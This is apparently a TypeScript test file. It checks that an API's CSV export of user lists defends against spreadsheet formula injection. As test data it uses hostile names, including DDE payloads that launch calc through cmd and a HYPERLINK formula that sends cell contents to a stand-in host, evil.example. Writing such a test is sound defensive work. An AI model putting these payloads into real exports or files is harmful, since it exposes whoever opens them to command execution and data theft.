import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../src/core/ids.js';
import { insertMembership, insertUser } from '../src/store/queries/tenancy-queries.js';
import { storeMatrix } from './support/store-matrix.js';
import { createUserManagementFixture, type UserManagementFixture } from './user-management-fixture.js';

// Names a user (or anyone joining through the invite link) can give themselves, each of which a spreadsheet
// would run as a formula if the exported cell started with it (OWASP "CSV Injection").
const HOSTILE_NAMES = ["=cmd|' /C calc'!A0", '+1+cmd|calc', '-2+3+cmd|calc', '@SUM(1+9)*cmd|calc'];
// The API trims names, so these reach the store only from elsewhere (an older version, another process
// writing the database); some spreadsheets strip the leading tab or CR and evaluate what follows.
const WHITESPACE_LED_NAMES = ['\t=1+1', '\r=1+1'];

for (const { kind, available } of await storeMatrix()) {
  describe.skipIf(!available)(`user-list export against formula injection (${kind})`, () => {
    let f: UserManagementFixture;
    beforeAll(async () => {
      f = await createUserManagementFixture(kind);
    });
    afterAll(async () => f?.close());

    it('every cell that would start a formula reaches the spreadsheet as text', async () => {
      const setName = '=HYPERLINK("http://evil.example/?"&A2,"open")';
      const set = await f.call('owner', 'POST', `/api/v1/orgs/${f.orgA.id}/permission-sets`, { name: setName, permissions: [] });
      expect(set.statusCode).toBe(201);
      for (const [i, name] of HOSTILE_NAMES.entries()) {
        const added = await f.call('owner', 'POST', `/api/v1/orgs/${f.orgA.id}/users`, {
          email: `hostile.${i}@example.com`,
          name,
          userType: 'standard',
        });
        expect(added.statusCode).toBe(201);
        const access = await f.call('owner', 'PUT', `/api/v1/orgs/${f.orgA.id}/users/${added.json<{ id: string }>().id}/access`, {
          permissionSetIds: [set.json<{ id: string }>().id],
          customPermissionIds: [],
          entityIds: [],
        });
        expect(access.statusCode).toBe(200);
      }

      const now = f.ts.store.clock.now();
      for (const [i, name] of WHITESPACE_LED_NAMES.entries()) {
        const id = newId(now);
        await insertUser(f.ts.store.db, {
          id,
          email: `hostile.${HOSTILE_NAMES.length + i}@example.com`,
          name,
          password_hash: null,
          created_at: now,
        });
        await insertMembership(f.ts.store.db, {
          org_id: f.orgA.id,
          user_id: id,
          user_type: 'standard',
          proxy_from_org_id: null,
          expires_at: null,
          created_at: now,
        });
      }

      const res = await f.call('owner', 'GET', `/api/v1/orgs/${f.orgA.id}/users/export`);
      expect(res.statusCode).toBe(200);
      const rows = parse(res.body, { columns: true }) as Record<string, string>[];
      const hostile = rows.filter((r) => r.email?.startsWith('hostile.')).sort((a, b) => String(a.email).localeCompare(String(b.email)));
      expect(hostile.map((r) => r.name)).toEqual([...HOSTILE_NAMES, ...WHITESPACE_LED_NAMES].map((name) => `'${name}`));
      for (const row of hostile.slice(0, HOSTILE_NAMES.length)) expect(row.permissionSets).toBe(`'${setName}`);
      // No cell of the whole file starts a formula.
      const cells = (parse(res.body) as string[][]).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });
  });
}
